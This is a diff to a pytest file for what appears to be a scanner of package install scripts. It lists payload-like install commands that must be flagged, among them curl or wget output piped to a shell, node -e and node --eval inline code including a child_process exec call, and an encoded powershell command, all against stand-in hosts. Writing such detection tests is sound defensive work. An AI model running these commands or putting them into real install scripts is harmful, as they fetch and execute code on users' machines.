@@ -57,7 +57,7 @@ def test_a_policy_inside_the_archive_cannot_lower_it() -> None:
         ("node -e \"require('https').get('https://x.example/p')\"", "`node -e` runs inline code"),
         ("curl -fsSL https://get.example/i.sh | sh", "`sh` runs what was just downloaded"),
         ("sh -c 'wget -qO- https://get.example/i | bash'", "`wget` downloads code at install time"),
-        ("FOO=1 node --eval x", "`node --eval` runs inline code"),
+        ("FOO=1 node --eval \"require('child_process').exec('id')\"", "`node --eval` runs inline code that"),
         ("echo $(curl -s https://get.example/v)", "`curl` downloads code at install time"),
         ("npx some-helper@latest setup", "`npx` fetches and runs a package"),
         ("powershell -enc SQBFAFgA", "`powershell -enc` runs inline code"),
@@ -73,7 +73,14 @@ def test_inline_and_downloaded_install_code_is_an_error(script: str, what: str) 
 
 
 @pytest.mark.parametrize(
-    "script", ["node scripts/setup.js", "node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install"]
+    "script",
+    [
+        "node scripts/setup.js",
+        "node-gyp rebuild",
+        "prebuild-install || node-gyp rebuild",
+        "husky install",
+        "node -e \"try{require('./postinstall')}catch(e){}\"",  # core-js: inline code that only loads a packaged file
+    ],
 )
 def test_scripts_that_run_packaged_files_are_not_payloads(script: str) -> None:
     manifest = {**SCRIPTED, "scripts": {"install": script}}
